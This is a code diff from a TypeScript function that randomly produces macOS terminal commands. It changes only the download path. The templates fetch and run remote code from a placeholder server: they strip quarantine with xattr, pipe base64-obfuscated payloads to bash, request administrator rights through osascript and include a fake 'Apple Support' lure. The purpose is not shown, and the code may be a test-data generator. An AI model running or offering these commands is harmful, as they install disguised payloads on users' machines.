@@ -51,7 +51,7 @@ function terminal(server: string, chance: Chance): string {
   return chance.of([
     `echo "Apple Support: https://support.apple.com/disk" && ${load} | zsh`,
     `echo '${narrow(`${load} | nohup bash &`)}' | base64 -D | bash`,
-    `curl -o /tmp/update https://${server}/update && xattr -c /tmp/update && chmod +x /tmp/update && /tmp/update`,
+    `curl -o $TMPDIR/update https://${server}/update && xattr -c $TMPDIR/update && chmod +x $TMPDIR/update && $TMPDIR/update`,
     `bash <<< $(base64 -d <<< ${narrow(load)})`,
     `osascript -e 'do shell script "${load} | sh" with administrator privileges'`,
     `zsh -c "$(curl -fsSL $(echo ${narrow(`https://${server}/m.sh`)} | base64 -d))"`,
